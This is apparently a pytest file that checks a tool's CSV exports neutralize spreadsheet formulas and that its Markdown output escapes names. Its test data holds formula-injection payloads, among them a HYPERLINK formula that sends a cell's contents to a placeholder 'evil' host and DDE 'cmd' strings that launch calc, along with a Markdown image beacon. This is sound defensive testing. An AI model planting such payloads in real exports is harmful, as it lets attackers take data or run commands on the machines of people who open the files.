"""Safe output: CSV exports never carry live formulas, names never
render as Markdown."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from click.testing import CliRunner

from helpers_loaders import good_tables, write_csv
from orgnet.export import FORMULA_PREFIXES, csv_bytes, csv_text, neutralize_formula, safe_frame
from orgnet.textsafe import escape_markdown
from helpers_stores import Borrowed

EVIL = ['=HYPERLINK("http://evil/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_prefixes_neutralized(value: str) -> None:
    assert neutralize_formula(value) == "'" + value


def test_other_values_untouched() -> None:
    for value in ["望平社区", "a=b", "", None, -5, 3.5, True, "'=already"]:
        assert neutralize_formula(value) == value


def test_csv_helpers_neutralize_cells_and_headers() -> None:
    df = pd.DataFrame({"name": EVIL + ["ok"], "=col": range(7), "n": [-1] * 7})
    out = list(csv.reader(io.StringIO(csv_text(df))))
    assert out[0] == ["name", "'=col", "n"]
    assert all(not row[0].startswith(FORMULA_PREFIXES) for row in out[1:])
    assert [row[2] for row in out[1:]] == ["-1"] * 7  # numbers stay numbers
    assert csv_bytes(df).startswith(b"\xef\xbb\xbf")
    assert safe_frame(df)["name"].tolist()[-1] == "ok" and df["name"].tolist()[0] == EVIL[0]


def test_cypher_csv_output_neutralized() -> None:
    from orgnet.cli.output import format_rows

    text = format_rows([{"name": v, "=k": 1} for v in EVIL], "csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "'=k"]
    assert all(r[0].startswith("'") for r in rows[1:])



@pytest.fixture(scope="module")
def evil_graph(falkordb_store, tmp_path_factory):
    from orgnet.graph.load import load_dataset
    from orgnet.loaders.validate import validate_path

    tables = good_tables()
    tables["areas"][3]["name"] = EVIL[0]  # community C2 (no party org: several gaps)
    tables["units"].append({"id": "U9", "name": EVIL[1], "kind": "private_enterprise",
                            "area_id": "C1", "resident": "yes"})
    result = validate_path(write_csv(tmp_path_factory.mktemp("evil") / "d", tables))
    assert result.report.rejected == 0
    graph = "evil_names"
    load_dataset(falkordb_store, result.dataset, graph=graph, replace=True)
    yield falkordb_store, graph
    falkordb_store.drop_graph(graph)


@pytest.mark.parametrize("command", [["gaps", "--format", "csv", "--as-of", "2024-06-30"],
                                     ["linkage", "--format", "csv", "--as-of", "2024-06-30"],
                                     ["cypher", "MATCH (n) RETURN n.name AS name", "--format", "csv"]])
def test_cli_csv_exports_carry_no_formula(evil_graph, monkeypatch, tmp_path, command) -> None:
    import orgnet.graph.stores as stores
    from orgnet.cli import cli

    store, graph = evil_graph
    monkeypatch.setattr(stores, "open_store", lambda settings: Borrowed(store))
    monkeypatch.setenv("ORGNET_HOME", str(tmp_path / "home"))
    r = CliRunner().invoke(cli, [*command, "--graph", graph], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    cells = [c for row in csv.reader(io.StringIO(r.output)) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    shown = {c for c in cells if c.startswith("'")}
    assert shown & {"'" + EVIL[0], "'" + EVIL[1]}, r.output[:500]


def test_escape_markdown_shows_text_literally() -> None:
    name = "望平社区![b](http://host/beacon.png)"
    out = escape_markdown(name)
    assert "![" not in out and "](" not in out
    assert out.replace("\\", "") == name
    assert escape_markdown("**粗** _斜_ `代码` $x$ :red[红] <img src=x>") == (
        "\\*\\*粗\\*\\* \\_斜\\_ \\`代码\\` \\$x\\$ \\:red\\[红\\] &lt;img src\\=x&gt;")
    assert escape_markdown("# 标题\n- 列表") == "\\# 标题 \\- 列表"
    assert escape_markdown(None) == "" and escape_markdown(12) == "12"
